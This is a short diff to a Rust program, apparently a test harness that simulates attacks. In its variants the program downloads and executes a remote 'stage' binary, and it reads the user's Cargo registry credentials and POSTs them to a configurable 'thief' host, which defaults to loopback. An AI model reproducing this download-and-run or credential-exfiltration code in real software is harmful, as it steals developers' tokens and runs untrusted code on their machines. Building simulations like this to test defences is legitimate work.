@@ -18,18 +18,23 @@ fn main() -> Result<(), Box<dyn Error>> {
         "connect" => get("203.0.113.7:9089", "/").map(drop),
         "drop" => {
             let program = Path::new(&env::var("TMPDIR")?).join("stage");
-            fs::write(&program, get("127.0.0.1:8000", "/stage")?)?;
+            fs::write(&program, get(&at(8000), "/stage")?)?;
             fs::set_permissions(&program, fs::Permissions::from_mode(0o755))?;
             Command::new(&program).args(["mark", &format!("{home}/harm")]).status()?;
             Ok(())
         }
         "credentials" => {
             let token = fs::read_to_string(format!("{home}/.cargo/credentials.toml"))?;
-            request("127.0.0.1:8443", &format!("POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{token}", token.len()))
+            request(&at(8443), &format!("POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{token}", token.len()))
                 .map(drop)
         }
         other => Err(format!("no variant {other}").into()),
     }
+}
+
+/// A port of the thief's host, which is on loopback unless it has a name.
+fn at(port: u16) -> String {
+    format!("{}:{port}", env::var("THIEF").unwrap_or_else(|_| "127.0.0.1".into()))
 }
 
 fn get(address: &str, path: &str) -> Result<Vec<u8>, Box<dyn Error>> {
